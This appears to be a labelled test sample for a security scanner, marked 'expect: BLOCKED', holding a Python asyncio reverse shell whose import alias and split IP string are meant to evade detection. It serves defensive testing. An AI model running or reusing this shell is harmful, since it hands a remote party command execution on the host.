# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/asyncio_shell.py technique: alias+concat
import asyncio as _m0

async def main():
    reader, writer = await _m0.open_connection('203' + '.0.' + '113' + '.5', 7777)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await _m0.create_subprocess_shell(line.decode(), stdout=_m0.subprocess.PIPE)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()
_m0.run(main())
